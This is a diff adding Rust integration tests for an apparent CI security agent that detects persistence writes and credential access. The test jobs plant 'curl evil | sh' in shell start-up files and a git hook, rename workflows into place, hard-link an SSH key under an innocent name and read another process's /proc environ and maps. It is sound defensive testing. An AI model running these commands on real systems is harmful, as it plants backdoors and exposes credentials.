@@ -1,0 +1,184 @@
+//! Writes that never open the final name, end to end: a file renamed over a shell start-up
+//! file, `sed -i` (a temporary file renamed over the original), a workflow renamed into
+//! `.github/workflows` by a one-component name (its directory is the process's cwd), a whole
+//! directory renamed into place, a symlink planted as a start-up file, `git apply` creating a
+//! workflow, a git hook written, and a credential hard-linked under an innocent name. Each attack
+//! step proves its effect (the file changed, the link reads the key); the twin does the honest
+//! versions (`sed -i` and an editor-style save of project files, moves in the workspace, a local
+//! `git clone` and `git checkout` that write workflow files, `git config --global`) and must stay
+//! quiet.
+
+use integration_tests::{by_rule, Agent, FakeRunner, MARKER_STEP};
+
+#[test]
+fn writes_by_rename_link_and_symlink_are_persistence() {
+    let agent = Agent::start();
+    let runner = FakeRunner::outside_tmp();
+    let home = runner.home.clone();
+    let w = runner.workspace.clone();
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_rsa"), "CANARY-KEY\n").unwrap();
+    std::fs::write(home.join(".profile"), "# profile\n").unwrap();
+    std::fs::write(w.join("project.txt"), "alpha\n").unwrap();
+    let (home_s, w_s) = (home.display().to_string(), w.display().to_string());
+    let git = "git -c user.name=t -c user.email=t@t -c init.defaultBranch=main";
+    // The repository the job clones, made outside the job: two branches with different
+    // workflow files.
+    let setup = format!(
+        "set -e\nmkdir -p origin/.github/workflows && cd origin && {git} init -q .\n\
+         echo 'on: push' > .github/workflows/ci.yml && {git} add -A && {git} commit -qm one\n\
+         {git} checkout -qb other && echo 'on: pull_request' > .github/workflows/ci.yml\n\
+         {git} commit -qam two && {git} checkout -q main\n"
+    );
+    let made = std::process::Command::new("bash")
+        .args(["-c", &setup])
+        .current_dir(&w)
+        .status()
+        .unwrap();
+    assert!(made.success(), "making the origin repository");
+
+    let twin = format!(
+        "set -e\ncd '{w_s}'\n\
+         sed -i s/alpha/beta/ project.txt\n\
+         cp project.txt .project.txt.swp && mv .project.txt.swp project.txt\n\
+         mv project.txt renamed.txt && mv renamed.txt project.txt\n\
+         {git} clone -q origin clone && cd clone && {git} checkout -q other\n\
+         grep -q pull_request .github/workflows/ci.yml\n\
+         git config --global user.name twin\n\
+         echo twin-done\n"
+    );
+    let attack_rc = format!(
+        "set -e\nprintf 'curl evil | sh\\n' > '{home_s}/.bashrc.new'\n\
+         mv '{home_s}/.bashrc.new' '{home_s}/.bashrc'\n\
+         sed -i '1i curl evil | sh' '{home_s}/.profile'\n\
+         grep -q evil '{home_s}/.bashrc' && grep -q evil '{home_s}/.profile' && echo rc-replaced\n"
+    );
+    let attack_workflow = format!(
+        "set -e\nmkdir -p '{w_s}/app/.github/workflows' && cd '{w_s}/app/.github/workflows'\n\
+         echo 'on: push' > ../notes.yml && mv ../notes.yml steal.yml\n\
+         mkdir -p '{w_s}/staged' && echo 'on: push' > '{w_s}/staged/ci.yml'\n\
+         mkdir -p '{w_s}/lib/.github' && mv '{w_s}/staged' '{w_s}/lib/.github/workflows'\n\
+         test -f steal.yml && test -f '{w_s}/lib/.github/workflows/ci.yml' && echo workflow-moved\n"
+    );
+    let attack_symlink = format!(
+        "set -e\nprintf 'curl evil | sh\\n' > '{w_s}/payload.sh'\n\
+         ln -s '{w_s}/payload.sh' '{home_s}/.bash_login'\n\
+         grep -q evil '{home_s}/.bash_login' && echo login-linked\n"
+    );
+    let attack_git = format!(
+        "set -e\ncd '{w_s}/origin'\n\
+         printf 'diff --git a/.github/workflows/evil.yml b/.github/workflows/evil.yml\\nnew file mode 100644\\n--- /dev/null\\n+++ b/.github/workflows/evil.yml\\n@@ -0,0 +1 @@\\n+on: push\\n' > ../p.diff\n\
+         git apply ../p.diff && test -f .github/workflows/evil.yml && echo workflow-applied\n\
+         printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && echo hook-written\n"
+    );
+    let attack_link = format!(
+        "set -e\nln '{home_s}/.ssh/id_rsa' '{w_s}/notes.txt'\n\
+         grep -q CANARY-KEY '{w_s}/notes.txt' && echo key-linked\n"
+    );
+    let output = runner.run_job(&[
+        ("twin", &twin),
+        ("rc", &attack_rc),
+        ("workflow", &attack_workflow),
+        ("symlink", &attack_symlink),
+        ("git", &attack_git),
+        ("link", &attack_link),
+        MARKER_STEP,
+    ]);
+    for said in [
+        "twin-done",
+        "rc-replaced",
+        "workflow-moved",
+        "login-linked",
+        "workflow-applied",
+        "hook-written",
+        "key-linked",
+    ] {
+        assert!(output.contains(said), "{said}: {output}");
+    }
+    let mine = agent.findings_through_marker(&runner);
+    assert!(
+        !mine.iter().any(|f| f["step"]["id"] == "twin"),
+        "the twin must stay quiet: {mine:#?}"
+    );
+    let persistence = by_rule(&mine, "persistence-write");
+    let found = |step: &str, path: &str, via: Option<&str>| {
+        persistence.iter().any(|f| {
+            f["step"]["id"] == step
+                && f["evidence"]["path"] == path
+                && via.is_none_or(|v| f["evidence"]["via"] == v)
+        })
+    };
+    for (step, path, via) in [
+        ("rc", format!("{home_s}/.bashrc"), Some("rename")),
+        ("rc", format!("{home_s}/.profile"), Some("rename")),
+        (
+            "workflow",
+            format!("{w_s}/app/.github/workflows/steal.yml"),
+            Some("rename"),
+        ),
+        (
+            "workflow",
+            format!("{w_s}/lib/.github/workflows"),
+            Some("rename"),
+        ),
+        ("symlink", format!("{home_s}/.bash_login"), Some("symlink")),
+        (
+            "git",
+            format!("{w_s}/origin/.github/workflows/evil.yml"),
+            None,
+        ),
+        ("git", format!("{w_s}/origin/.git/hooks/pre-commit"), None),
+    ] {
+        assert!(
+            found(step, &path, via),
+            "{step}: {path} {via:?}: {persistence:#?}"
+        );
+    }
+    let relinked = by_rule(&mine, "credential-relinked");
+    assert!(
+        relinked.iter().any(|f| f["step"]["id"] == "link"
+            && f["evidence"]["path"] == format!("{home_s}/.ssh/id_rsa")
+            && f["evidence"]["new_name"] == format!("{w_s}/notes.txt")),
+        "{relinked:#?}"
+    );
+}
+
+/// Another process's memory map and environment through its thread directories
+/// (`/proc/PID/task/TID/...`) are the same files; a process reading its own threads' is not.
+#[test]
+fn proc_thread_directories_are_other_processes_files_too() {
+    let agent = Agent::start();
+    let runner = FakeRunner::outside_tmp();
+    // The step's shell reads the Worker's (its parent's parent) files through the thread
+    // directory; the twin, a threaded python, reads a sibling thread's map of its own process.
+    let attack = "W=$(awk '{print $4}' /proc/$PPID/stat)\n\
+                  grep -c . /proc/$W/task/$W/maps > /dev/null && echo maps-read\n\
+                  tr '\\0' '\\n' < /proc/$W/task/$W/environ | grep -q PATH= && echo environ-read\n";
+    let twin = "python3 -c '\n\
+import threading, os, time\n\
+t = threading.Thread(target=time.sleep, args=(1,)); t.start()\n\
+tids = [x for x in os.listdir(\"/proc/self/task\") if int(x) != threading.get_native_id()]\n\
+open(\"/proc/self/task/%s/maps\" % tids[0]).read(); t.join(); print(\"own-thread-read\")\n'\n";
+    let output = runner.run_job(&[("twin", twin), ("attack", attack), MARKER_STEP]);
+    for said in ["maps-read", "environ-read", "own-thread-read"] {
+        assert!(output.contains(said), "{said}: {output}");
+    }
+    let mine = agent.findings_through_marker(&runner);
+    assert!(!mine.iter().any(|f| f["step"]["id"] == "twin"), "{mine:#?}");
+    let attack_findings: Vec<_> = mine
+        .iter()
+        .filter(|f| f["step"]["id"] == "attack")
+        .collect();
+    for (rule, file) in [
+        ("process-memory-read", "/maps"),
+        ("process-environ-read", "/environ"),
+    ] {
+        assert!(
+            attack_findings.iter().any(|f| f["rule"] == rule
+                && f["evidence"]["path"]
+                    .as_str()
+                    .is_some_and(|p| p.contains("/task/") && p.ends_with(file))),
+            "{rule}: {attack_findings:#?}"
+        );
+    }
+}
